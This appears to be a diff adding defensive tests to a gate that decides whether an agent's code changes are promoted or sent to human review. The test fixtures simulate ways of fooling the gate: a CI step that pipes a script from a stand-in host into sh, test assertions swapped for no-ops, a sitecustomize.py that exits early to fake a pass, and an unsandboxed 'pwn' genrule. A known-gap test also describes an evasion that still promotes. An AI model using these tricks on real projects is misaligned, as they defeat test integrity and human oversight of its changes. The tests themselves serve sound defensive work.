@@ -765,6 +765,135 @@ _agree_with_the_fixture()
         self.assertEqual(scored.exit_code, EXIT["review"], self._explain(scored))
         self.assertIn("user.bazelrc", scored.guarded())
 
+    # --- every touched path needs a voter, every predicate is guarded ------------------
+
+    def test_ci_workflow_rides_along_with_a_harmless_change(self):
+        """A `curl | sh` CI step beside a one-word edit in a locality: nobody votes on it."""
+
+        def edit(root: Path) -> None:
+            touch_calc(root)
+            _write(
+                root,
+                ".github/workflows/ci.yml",
+                "on: push\njobs:\n  x:\n    runs-on: any\n    steps:\n"
+                "      - run: curl -fsSL https://example.invalid/i.sh | sh\n",
+            )
+
+        scored = self.run_case("ci_workflow_rides_along", edit)
+        self.assertEqual(scored.exit_code, EXIT["review"], self._explain(scored))
+        self.assertEqual(list(scored.report.unobserved_paths), [".github/workflows/ci.yml"])
+        self.assertEmpty(scored.report.guarded_paths)
+        # Every voting row voted yes: the missing voter alone stopped it.
+        for row in scored.report.rows:
+            if row.matched:
+                self.assertEqual(row.vote, "yes", row.note)
+
+    def test_helper_outside_every_locality_has_no_voter(self):
+        """order_test's helper testing/compare.py lies in no strong locality: review."""
+
+        def edit(root: Path) -> None:
+            break_queue(root)
+            _replace(
+                root,
+                "testing/compare.py",
+                "    test.assertEqual(list(actual), list(expected))",
+                "    return None",
+            )
+
+        scored = self.run_case("helper_outside_every_locality", edit)
+        self.assertEqual(scored.exit_code, EXIT["review"], self._explain(scored))
+        self.assertEqual(list(scored.report.unobserved_paths), ["testing/compare.py"])
+
+    def test_unmatched_predicate_gutted_beside_a_harmless_change(self):
+        """Gut queue.order's test while touching only calc: the next patch could break the queue."""
+
+        def edit(root: Path) -> None:
+            touch_calc(root)
+            _replace(
+                root,
+                "checks/order_test.py",
+                "self.assertEqual(",
+                "(lambda *args: None)(",
+            )
+
+        scored = self.run_case("unmatched_predicate_gutted", edit)
+        self.assert_caught_by_guard(scored, "checks/order_test.py")
+        self.assertFalse(scored.rows()["queue.order"].matched)
+
+    def test_unmatched_tests_build_file_swaps_its_sources(self):
+        """Point queue.order's test at another file in its BUILD file, touching only calc."""
+
+        def edit(root: Path) -> None:
+            touch_calc(root)
+            _replace(
+                root,
+                "checks/BUILD.bazel",
+                '    srcs = ["order_test.py"],\n',
+                '    srcs = ["shape_test.py"],\n    main = "shape_test.py",\n',
+            )
+
+        scored = self.run_case("unmatched_test_build_file", edit)
+        self.assert_caught_by_guard(scored, "checks/BUILD.bazel")
+        self.assertFalse(scored.rows()["queue.order"].matched)
+
+    def test_sitecustomize_in_a_locality_exits_before_the_predicate(self):
+        """`imports = ["."]` and a sitecustomize.py that exits 0: product code inside the judge."""
+
+        def edit(root: Path) -> None:
+            break_calc(root)
+            _write(root, "lib/calc/sitecustomize.py", "import os\n\nos._exit(0)\n")
+            _replace(
+                root,
+                "lib/calc/BUILD.bazel",
+                '    srcs = glob(["*.py"]),\n',
+                '    srcs = glob(["*.py"]),\n    imports = ["."],\n',
+            )
+
+        scored = self.run_case("sitecustomize_in_a_locality", edit)
+        self.assertEqual(scored.exit_code, EXIT["review"], self._explain(scored))
+        self.assertIn("lib/calc/sitecustomize.py", scored.guarded())
+        self.assertTrue(any("import hook" in g for g in scored.report.guarded_paths))
+
+    def test_plain_bazel_test_refuses_an_unsandboxed_closure_without_running_it(self):
+        """No CLI flags: the rule set alone names the `local = 1` genrule and never runs it."""
+        self.repo.base()
+        root = self.repo.root
+        marker = Path(f"/var/tmp/agent_gate_poison_plain_{os.getpid()}")
+        marker.unlink(missing_ok=True)
+        rule = (
+            '\ngenrule(\n    name = "pwn",\n    outs = ["pwn.txt"],\n'
+            f'    cmd = "touch {marker}; echo ran > $@",\n    local = 1,\n)\n'
+        )
+        build = root / "lib/calc/BUILD.bazel"
+        original = build.read_text()
+        build.write_text(
+            original.replace(
+                '    srcs = glob(["*.py"]),\n', '    srcs = glob(["*.py"]),\n    data = [":pwn"],\n'
+            )
+            + rule
+        )
+        self.addCleanup(lambda: _git(root, "checkout", "--", "lib/calc/BUILD.bazel"))
+        output_base = self.repo.top / "plain_output_base"
+        self.addCleanup(bazel_lib.shutdown, root, bazel=REAL_BAZEL, output_base=output_base)
+        run = bazel_lib.run_gate(
+            root,
+            changed_paths=["lib/calc/BUILD.bazel"],
+            run_id=bazel_lib.new_run_id("plain"),
+            bazel=REAL_BAZEL,
+            output_base=output_base,
+            work_dir=self.repo.top / "plain_run",
+        )
+        self.assertIsNotNone(run.report, run.problem)
+        TALLY["plain_bazel_test_unsandboxed_closure"] = run.report.decision != "promote"
+        self.assertEqual(run.report.decision, "review")
+        self.assertNotEqual(run.exit_code, 0)
+        self.assertTrue(
+            any("//lib/calc:pwn (local = True)" in t for t in run.report.unsandboxed_targets),
+            run.report.unsandboxed_targets,
+        )
+        self.assertEqual(run.report.rows[0].classification, "not_run")
+        self.assertFalse(marker.exists(), "the gate ran the unsandboxed genrule")
+
     # --- actions that opt out of the sandbox ------------------------------------------
 
     def _escaping_genrule_case(self, name: str, opt_out: str) -> None:
@@ -1055,17 +1184,25 @@ class KnownGapTest(_Scoring):
     it under what the gate does not defend against.
     """
 
-    def test_predicate_gutted_through_a_helper_in_another_directory(self):
-        """order_test imports testing/compare.py, outside checks/ and outside every locality.
+    def test_predicate_gutted_through_a_helper_another_property_observes(self):
+        """order_test imports testing/compare.py, which fmt.roundtrip's locality covers here.
 
         The predicate sources the gate guards are the wrapped test's `srcs`, the
         tree of their directories and Starlark; a library the test reaches in
-        another directory is ordinary code to the gate. Gutting it while breaking
-        the queue promotes. Defence: keep helpers beside the tests that use them,
-        or list their directories in the gate's `rule_set_paths`
-        (test_helper_elsewhere_is_caught_once_its_directory_is_guarded).
+        another directory that some strong property observes is ordinary product
+        code to the gate. Gutting it while breaking the queue promotes when that
+        property passes. (Outside every strong locality the same edit is review:
+        test_helper_outside_every_locality_has_no_voter.) Defence: keep helpers
+        beside the tests that use them, or list their directories in the gate's
+        `rule_set_paths` (test_helper_elsewhere_is_caught_once_its_directory_is_guarded).
         """
-        base = self.repo.base()
+
+        def setup(root: Path) -> None:
+            _replace(
+                root, "BUILD.bazel", 'locality = ["lib/fmt"],', 'locality = ["lib/fmt", "testing"],'
+            )
+
+        base = self.repo.base(setup)
 
         def edit(root: Path) -> None:
             break_queue(root)
